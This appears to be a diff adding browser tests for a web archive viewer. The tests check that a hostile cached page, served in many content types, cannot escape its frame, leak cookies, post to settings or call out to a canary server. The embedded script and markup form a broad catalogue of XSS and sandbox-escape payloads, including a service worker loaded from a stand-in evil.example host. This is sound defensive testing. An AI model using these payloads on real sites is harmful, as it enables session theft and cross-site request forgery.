@@ -1,0 +1,236 @@
+"""A page that tries everything to get out of its frame, in a real browser.
+
+It is stored as HTML, SVG, XHTML, XML with XSLT and under wrong types, and opened in
+the frame, directly, and as untouched payload in a frame that has lost its sandbox
+attribute, so that the header set alone must hold. Nothing may change, and a server
+beside the site must hear nothing.
+"""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.browser.live_site import Canary, Site
+from tests.webui.archive_text import response, write_archive
+from webui.settings import settings_hash
+
+pytestmark = pytest.mark.browser
+
+SCRIPT = """
+const out = (what) => { try { new Image().src = "CANARY/" + what } catch (e) {} };
+const attempt = (what, deed) => { try { Promise.resolve(deed()).then((r) => out(what), () => {}) } catch (e) {} };
+out("script-ran");
+attempt("cookie", () => { if (!document.cookie) throw 1 });
+attempt("storage", () => localStorage.setItem("probe", "was here"));
+attempt("parent", () => parent.document.title = "taken over");
+attempt("top-dom", () => top.document.body.innerHTML);
+attempt("read-ui", () => fetch("/settings").then((r) => r.text()));
+attempt("post-ui", () => fetch("/settings", {method: "POST", body: new URLSearchParams({"search.k1": "1"})}));
+attempt("blind-post", () => fetch("/settings", {method: "POST", mode: "no-cors", body: "x"}));
+attempt("worker", () => navigator.serviceWorker.register("/web/2015js_/http://evil.example/sw.js"));
+attempt("beacon", () => { if (!navigator.sendBeacon("CANARY/beaconed", "x")) throw 1 });
+attempt("fetch", () => fetch("CANARY/fetched"));
+attempt("socket", () => new WebSocket("CANARY/socket".replace("http", "ws")));
+attempt("open", () => { if (!window.open("CANARY/opened")) throw 1 });
+setTimeout(() => { const f = document.createElement("form"); f.action = "/settings"; f.method = "post";
+  document.documentElement.append(f); f.submit() }, 250);
+setTimeout(() => { try { top.location = "CANARY/top" } catch (e) {} }, 300);
+setTimeout(() => { location = "CANARY/self" }, 350);
+"""
+MARKUP = """
+<meta http-equiv="refresh" content="0;url=CANARY/refresh">
+<link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY"><link rel="prefetch" href="CANARY/prefetch">
+<link rel="preload" as="image" href="CANARY/preload"><link rel="stylesheet" href="CANARY/css">
+<link rel="icon" href="CANARY/icon">
+<link rel="manifest" href="CANARY/manifest"><link rel="modulepreload" href="CANARY/module">
+<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["CANARY/speculation"]}]}</script>
+<style>@import "CANARY/import"; @font-face { font-family: f; src: url(CANARY/font) }
+body { background: url(CANARY/background); font-family: f } .x { background: u\\72l(CANARY/escaped) }</style>
+<body onload="SCRIPT_ATTRIBUTE" style="border-image: url(CANARY/border)">
+<p class="x">zebra</p><img src="CANARY/image"><img src="/none" onerror="SCRIPT_ATTRIBUTE">
+<img srcset="CANARY/srcset 1x"><picture><source srcset="CANARY/source"><img></picture>
+<video src="CANARY/video" autoplay poster="CANARY/poster"></video><audio src="CANARY/audio" autoplay></audio>
+<iframe src="CANARY/iframe"></iframe><iframe src="/settings"></iframe>
+<iframe srcdoc="&lt;img src='CANARY/srcdoc'&gt;"></iframe>
+<iframe src="javascript:parent.SCRIPT_ATTRIBUTE"></iframe><object data="CANARY/object"></object>
+<embed src="CANARY/embed">
+<object data="data:text/html,<script>new Image().src='CANARY/data'</script>"></object>
+<form action="CANARY/formed" method="post" id="f"><input name="a"><button id="go">go</button></form>
+<svg onload="SCRIPT_ATTRIBUTE"><image href="CANARY/svgimage"/><use href="CANARY/use#a"/><script>out</script></svg>
+<math><mtext><script>SCRIPT_ATTRIBUTE</script></mtext></math>
+<template shadowrootmode="open"><img src="CANARY/shadow"></template>
+<a id="link" href="CANARY/link" ping="CANARY/ping">link</a> <a id="top" href="CANARY/toplink" target="_top">top</a>
+<a id="blank" href="CANARY/blank" target="_blank">blank</a> <a id="js" href="javascript:SCRIPT_ATTRIBUTE">js</a>
+"""
+
+
+def probe(canary: Canary) -> dict[str, tuple[str, str]]:
+    """Return the hostile page in each form: name -> (content type, body)."""
+    script = SCRIPT.replace("CANARY", canary.address)
+    attribute = f"new Image().src='{canary.address}/handler'"
+    markup = MARKUP.replace("CANARY", canary.address).replace("SCRIPT_ATTRIBUTE", attribute)
+    html = f"<!doctype html><html><head><title>Hostile zebra</title><script>{script}</script>{markup}</html>"
+    cdata = f"<script>//<![CDATA[\n{script}\n//]]></script>"
+    refresh = f'<meta http-equiv="refresh" content="0;url={canary.address}/refresh" />'
+    xhtml = (
+        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Hostile zebra</title>'
+        f"{refresh}{cdata}"
+        f'</head><body onload="{attribute}"><p>zebra</p><img src="{canary.address}/image" alt="" /></body></html>'
+    )
+    svg = (
+        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
+        f'onload="{attribute}">'
+        f'{cdata}<image x:href="{canary.address}/image" width="9" height="9"/><foreignObject width="9" height="9">'
+        f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary.address}/iframe"></iframe></foreignObject></svg>'
+    )
+    xslt = (
+        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" '
+        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>'
+        f'{cdata}<img src="{canary.address}/image"/></body></html></xsl:template></xsl:stylesheet></x>'
+    )
+    mhtml = (
+        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
+        f"--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--"
+    )
+    return {
+        "html": ("text/html", html),
+        "xhtml": ("application/xhtml+xml", xhtml),
+        "svg": ("image/svg+xml", svg),
+        "xslt": ("text/xml", xslt),
+        "xml": ("application/xml", xhtml),
+        "mhtml": ("multipart/related", mhtml),
+        "message": ("message/rfc822", mhtml),
+        "untyped": ("", html),
+        "as-text": ("text/plain", html),
+        "as-image": ("image/png", html),
+        "as-css": ("text/css", html),
+        "as-json": ("application/json", html),
+        "unknown": ("x-odd/type", html),
+    }
+
+
+FORMS = list(probe(Canary()))
+
+
+@pytest.fixture
+def hostile_site(serve: Callable[..., Site], canary: Canary, tmp_path: Path) -> Site:
+    records = [
+        response(f"http://evil.example/{name}", body, content_type)
+        for name, (content_type, body) in probe(canary).items()
+    ]
+    worker = response("http://evil.example/sw.js", "self.onfetch = () => {}", "text/javascript")
+    return serve(write_archive(tmp_path / "hostile.warc.gz", *records, worker))
+
+
+def test_the_probe_gets_out_where_nothing_holds_it(browser: Any, canary: Canary) -> None:
+    """Without this the silence below would prove nothing."""
+    canary.body = probe(canary)["html"][1].replace('content="0;url', 'content="9;url').encode()
+    context = browser.new_context()
+    page = context.new_page()
+    with contextlib.suppress(Exception):
+        page.goto(canary.address + "/probe")
+    page.wait_for_timeout(1500)
+    context.close()
+    heard = " ".join(canary.heard)
+    for deed in (
+        "script-ran",
+        "handler",
+        "beaconed",
+        "fetched",
+        "opened",
+        "image",
+        "iframe",
+        "css",
+        "POST /settings",
+    ):
+        assert deed in heard
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_nothing_gets_out_of_a_cached_page(
+    browser: Any, canary: Canary, hostile_site: Site, form: str
+) -> None:
+    site = hostile_site
+    url = f"http://evil.example/{form}"
+    before = settings_hash(site.settings.path)
+    context = browser.new_context()
+    context.add_cookies([{"name": "login", "value": "secret", "url": site.address}])
+    page = context.new_page()
+
+    def opens(address: str) -> None:
+        with contextlib.suppress(Exception):  # a download is no page
+            page.goto(site.address + address, wait_until="load", timeout=8000)
+        page.wait_for_timeout(700)
+
+    frame_page = f"/cached/2015/{url}"
+    opens("/")
+    page.evaluate("localStorage.setItem('own', 'kept')")
+    opens(frame_page)
+    assert page.url == site.address + frame_page
+    assert page.title().startswith("Archived: ")
+    click_all(page)
+    assert page.url == site.address + frame_page
+
+    for modifier in ("mp_", "id_"):
+        # In a frame whose sandbox attribute is gone, the header has to hold alone.
+        opens(frame_page)
+        page.evaluate(
+            "address => { let f = document.querySelector('iframe'); if (!f) { f = document.createElement('iframe');"
+            " document.body.append(f) } f.removeAttribute('sandbox'); f.src = address }",
+            f"/web/2015{modifier}/{url}",
+        )
+        page.wait_for_timeout(700)
+        assert page.url == site.address + frame_page
+        # Opened directly.
+        opens(f"/web/2015{modifier}/{url}")
+        assert page.url.startswith(site.address)
+
+    opens("/settings")
+    assert page.evaluate("Object.assign({}, localStorage)") == {"own": "kept"}
+    assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
+    assert len(context.pages) == 1
+    context.close()
+    assert canary.heard == []
+    assert settings_hash(site.settings.path) == before
+
+
+def click_all(page: Any) -> None:
+    """Click whatever can be clicked in the frame, as a reader might."""
+    for name in ("#js", "#blank", "#top", "#go", "#link"):
+        with contextlib.suppress(Exception):
+            page.frames[1].click(name, timeout=700)
+            page.wait_for_timeout(300)
+
+
+def test_pictures_and_styles_of_the_archive_are_shown(
+    browser: Any, serve: Callable[..., Site], tmp_path: Path
+) -> None:
+    """What holds the hostile page must not break the honest one."""
+    picture = (
+        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30"/></svg>'
+    )
+    html = ("<!doctype html><html><head><link rel=stylesheet href=s.css></head><body><img id=i src=p.svg>"
+            "<iframe name=inner src=inner></iframe></body></html>")  # fmt: skip
+    file = write_archive(
+        tmp_path / "honest.warc.gz",
+        response("http://site.example/", html),
+        response("http://site.example/inner", "<p>inner page <img id=j src=p.svg>"),
+        response("http://site.example/p.svg", picture, "image/svg+xml"),
+        response("http://site.example/s.css", "@import 'more.css';", "text/css"),
+        response("http://site.example/more.css", "body { background-color: rgb(1, 2, 3) }", "text/css"),
+    )
+    site = serve(file)
+    page = browser.new_context().new_page()
+    page.goto(f"{site.address}/cached/2015/http://site.example/")
+    page.wait_for_timeout(500)
+    outer, inner = page.frames[1], page.frames[2]
+    assert outer.evaluate("document.getElementById('i').naturalWidth") == 40
+    assert outer.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(1, 2, 3)"
+    assert "inner page" in inner.content()
+    assert inner.evaluate("document.getElementById('j').naturalWidth") == 40
+    page.context.close()
